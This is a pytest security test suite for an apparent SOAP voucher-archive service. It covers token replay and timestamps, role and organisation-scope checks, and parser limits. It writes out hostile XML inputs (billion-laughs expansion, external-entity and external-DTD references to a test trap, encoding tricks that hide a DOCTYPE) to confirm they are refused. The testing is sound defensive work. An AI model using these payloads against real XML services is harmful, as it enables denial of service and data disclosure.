def digest_token(user: str, *, secret: str | None = None, nonce: str | None = None, created=None) -> UsernameToken:
    return UsernameToken(user, secret or password(user), use_digest=True,
                         nonce=nonce or uuid.uuid4().hex, created=created or dt.datetime.now(UTC))


def test_digest_token_is_accepted(env):
    result = call_attack(env, None, "QueryVouchers", "OK", wsse=digest_token("viewer1"), page=1, pageSize=5)
    assert result.total == 2


def test_replayed_nonce(env):
    token = digest_token("viewer1", nonce=f"replay-{uuid.uuid4().hex}", created=dt.datetime.now(UTC))
    call_attack(env, None, "GetVoucher", "OK", wsse=token, voucherId="V-ORG1-1")
    again = digest_token("viewer1", nonce=token.nonce, created=token.created)
    call_attack(env, None, "GetVoucher", "Authentication", wsse=again, voucherId="V-ORG1-1")


def test_stale_created(env):
    created = dt.datetime.now(UTC) - dt.timedelta(seconds=env["settings"].security.token_window_seconds + 60)
    call_attack(env, None, "GetVoucher", "Authentication", wsse=digest_token("viewer1", created=created),
                voucherId="V-ORG1-1")


def test_created_in_the_future(env):
    created = dt.datetime.now(UTC) + dt.timedelta(seconds=env["settings"].security.clock_skew_seconds + 120)
    call_attack(env, None, "GetVoucher", "Authentication", wsse=digest_token("viewer1", created=created),
                voucherId="V-ORG1-1")


@pytest.mark.parametrize("scheme", ["digest", "basic"])
@pytest.mark.parametrize("case", ["wrong-password", "unknown-user", "disabled-user"])
def test_refused_credentials(env, case, scheme):
    user, secret = {
        "wrong-password": ("viewer1", "not-the-password"),
        "unknown-user": ("nobody-by-that-name", "whatever"),
        "disabled-user": ("disabled-viewer", password("disabled-viewer")),
    }[case]
    if scheme == "digest":
        call_attack(env, None, "GetVoucher", "Authentication", wsse=digest_token(user, secret=secret),
                    voucherId="V-ORG1-1")
    else:
        body = envelope(GET_VOUCHER.format("V-ORG1-1")).encode()
        before = stored_state(env)
        correlation_id = uuid.uuid4().hex
        response = requests.post(env["handle"].url, data=body, auth=basic_auth(user, secret), timeout=60,
                                 headers={"Content-Type": "text/xml; charset=utf-8", "X-Correlation-Id": correlation_id})
        fault_of(response, "Authentication")
        assert stored_state(env) == before
        assert_audited(env, correlation_id, "Authentication")
        assert_still_serving(env)


# --- organisation scope and roles ----------------------------------------------------------------


def test_out_of_scope_org_code_in_queries_counts_nothing(env):
    result = call_attack(env, "viewer1", "QueryVouchers", "OK", orgCode="ORG2", page=1, pageSize=500)
    assert result.total == 0 and not result["items"]
    everything = call_attack(env, "viewer1", "QueryVouchers", "OK", page=1, pageSize=500)
    assert everything.total == 2 and {v.orgCode for v in everything["items"]["voucher"]} == {"ORG1"}


#: Every operation, called by an ORG1-scoped user with the right role about ORG2's data.
OUT_OF_SCOPE = [
    ("ArchiveDocument", "archivist1", "AccessDenied", dict(
        sourceSystem="s", sourceId="scope", docType="OTHER", orgCode="ORG2", period="2024-03", title="t")),
    ("TriggerSync", "operator1", "AccessDenied", dict(orgCode="ORG2")),
    ("ReconcilePeriod", "operator1", "AccessDenied", dict(orgCode="ORG2", period="2024-03")),
    ("GetVoucher", "viewer1", "NotFound", dict(voucherId="V-ORG2-1")),
    ("GetVoucherDocument", "viewer1", "NotFound", dict(voucherId="V-ORG2-1")),
    ("GetAttachment", "viewer1", "NotFound", dict(attachmentId="ATT-2")),
    ("SubmitWorkflowResult", "archivist1", "NotFound", dict(
        oaRequestId="7002", state="REJECTED", finishedAt=dt.datetime(2024, 3, 6, tzinfo=UTC))),
]


@pytest.mark.parametrize("operation, user, code, kwargs", OUT_OF_SCOPE, ids=[c[0] for c in OUT_OF_SCOPE])
def test_out_of_scope_org_in_every_operation(env, operation, user, code, kwargs):
    call_attack(env, user, operation, code, **kwargs)


def test_out_of_scope_sync_job_is_not_found(env):
    call_attack(env, "operator1", "GetSyncStatus", "NotFound", jobId=env["org2_job"])


#: A user one step below each operation's role (auditor stands outside the ranks).
BELOW = {"viewer": "auditor", "archivist": "viewer-all", "operator": "archivist-all", "admin": "operator-all"}
SAMPLE_ARGUMENTS = {
    "QueryVouchers": dict(page=1, pageSize=5),
    "GetVoucher": dict(voucherId="V-ORG1-1"),
    "GetVoucherDocument": dict(voucherId="V-ORG1-1"),
    "GetAttachment": dict(attachmentId="ATT-1"),
    "ArchiveDocument": dict(sourceSystem="s", sourceId="role", docType="OTHER", orgCode="ORG1", period="2024-03",
                            title="t"),
    "SubmitWorkflowResult": dict(oaRequestId="7001", state="APPROVED", finishedAt=dt.datetime(2024, 3, 6, tzinfo=UTC)),
    "TriggerSync": dict(orgCode="ORG1"),
    "GetSyncStatus": dict(),
    "ReconcilePeriod": dict(orgCode="ORG1", period="2024-03"),
}
GUARDED = sorted(name for name, access in OPERATION_ACCESS.items() if access.role is not None)


def test_every_guarded_operation_has_sample_arguments():
    assert set(SAMPLE_ARGUMENTS) == set(GUARDED)


@pytest.mark.parametrize("operation", GUARDED)
def test_role_too_low_for_every_operation(env, operation):
    user = BELOW[OPERATION_ACCESS[operation].role]
    call_attack(env, user, operation, "AccessDenied", **SAMPLE_ARGUMENTS[operation])


@pytest.mark.parametrize("operation", GUARDED)
def test_no_credentials_for_every_operation(env, operation):
    call_attack(env, None, operation, "Authentication", **SAMPLE_ARGUMENTS[operation])


# --- the parser itself: our limits, not libxml2's --------------------------------------------------


def test_text_above_libxml2s_own_cap_parses_within_our_limit():
    text = "A" * (11 * 1000 * 1000)  # above libxml2's 10,000,000-byte text cap without huge_tree
    tree = safexml.parse_bytes(f"<a>{text}</a>".encode(), policy=safexml.XmlPolicy(max_text_bytes=12 * MiB))
    assert len(tree.getroot().text) == len(text)
    with pytest.raises(ValidationFailed) as refused:
        safexml.parse_bytes(f"<a>{text}</a>".encode(), policy=safexml.XmlPolicy(max_text_bytes=10 * MiB))
    assert refused.value.issues[0].rule == "max-text-bytes"


def test_encoding_tricks_cannot_hide_a_doctype():
    dtd = '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'
    for data in (
        ('<?xml version="1.0" encoding="UTF-16"?>' + dtd).encode("utf-16"),  # with its byte order mark
        ('<?xml version="1.0" encoding="UTF-32"?>' + dtd).encode("utf-32"),
        ('<?xml version="1.0" encoding="UTF-16LE"?>' + dtd).encode("utf-16-le"),  # no byte order mark
        '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE a+AD4-+ADw-a/+AD4-'.encode("ascii"),
        ('<?xml version="1.0" encoding="cp037"?>' + dtd).encode("cp037"),  # EBCDIC
    ):
        with pytest.raises(ValidationFailed) as refused:
            safexml.parse_bytes(data)
        assert refused.value.issues[0].rule in ("no-dtd", "encoding", "xml-syntax"), data[:40]


# --- import and the simulator -------------------------------------------------------------------


@pytest.fixture
def import_home(tmp_path, monkeypatch):
    home = tmp_path / "home"
    monkeypatch.setenv("ARCHIVE_OA_HOME", str(home))
    for variable in ("ARCHIVE_OA_DATABASE_URL",):
        monkeypatch.delenv(variable, raising=False)
    return home


def _voucher_count(home: Path) -> int:
    store = open_store(load_settings(data_dir=home, env={}))
    try:
        with store.transaction() as conn:
            return conn.execute(sa.text("SELECT COUNT(*) FROM vouchers")).scalar_one()
    finally:
        store.dispose()


@pytest.mark.parametrize("kind", ["billion-laughs", "external-entity",
                                  pytest.param("schema-location", marks=pytest.mark.slow)])
def test_import_refuses_hostile_files(import_home, tmp_path, trap, capsys, kind):
    from archive_oa.cli.main import main
    from archive_oa.samples import samples_dir

    sample = (samples_dir() / "HD01-2026-09.xml").read_bytes()
    if kind == "billion-laughs":
        levels = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10)]
        data = f"<!DOCTYPE Vouchers [{''.join(levels)}]><Vouchers>&l9;</Vouchers>".encode()
    elif kind == "external-entity":
        data = f'<!DOCTYPE Vouchers [<!ENTITY x SYSTEM "{trap.url}/import">]><Vouchers>&x;</Vouchers>'.encode()
    else:  # an invalid voucher (the precise, slow report runs) carrying a location hint to the trap
        root = safexml.parse_bytes(sample).getroot()
        root.set(f"{{{XSI}}}schemaLocation", f"urn:archive-oa:voucher:1 {trap.url}/voucher.xsd")
        first = root[0] if len(root) else root
        first.insert(0, etree.Element("{urn:archive-oa:voucher:1}unexpected"))
        data = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    path = tmp_path / f"{kind}.xml"
    path.write_bytes(data)
    assert main(["import", str(path)]) == 1
    capsys.readouterr()
    assert _voucher_count(import_home) == 0
    assert trap.hits == []
    assert main(["import", str(samples_dir() / "HD01-2026-09.xml")]) == 0  # and it still imports
    assert _voucher_count(import_home) > 0


@pytest.fixture
def simulator(tmp_path):
    from archive_oa.oa.simulator import SimulatorConfig, start_simulator

    handle = start_simulator(SimulatorConfig(decide_after=60), tmp_path / "oa")
    yield handle
    handle.stop()


@pytest.mark.parametrize("body", [
    billion_laughs(),
    b'<!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM "TRAP/sim">]>'
    + f'<soap:Envelope xmlns:soap="{SOAP}"><soap:Body>&x;</soap:Body></soap:Envelope>'.encode(),
    b'<?xml version="1.0"?><!DOCTYPE soap:Envelope SYSTEM "TRAP/sim.dtd">'
    + f'<soap:Envelope xmlns:soap="{SOAP}"><soap:Body/></soap:Envelope>'.encode(),
], ids=["billion-laughs", "external-entity", "external-dtd"])
def test_simulator_refuses_dtds(simulator, trap, body):
    body = body.replace(b"TRAP", trap.url.encode())
    before = simulator.db.count_requests()
    response = requests.post(simulator.url, data=body, headers={"Content-Type": "text/xml; charset=utf-8"}, timeout=30)
    assert response.status_code == 500
    fault = etree.fromstring(response.content).find(f"{{{SOAP}}}Body/{{{SOAP}}}Fault")
    assert fault.findtext("faultcode") == "soap:Client" and "DOCTYPE" in fault.findtext("faultstring")
    assert simulator.db.count_requests() == before and trap.hits == []
    assert requests.get(simulator.wsdl_url, timeout=30).status_code == 200  # still serving
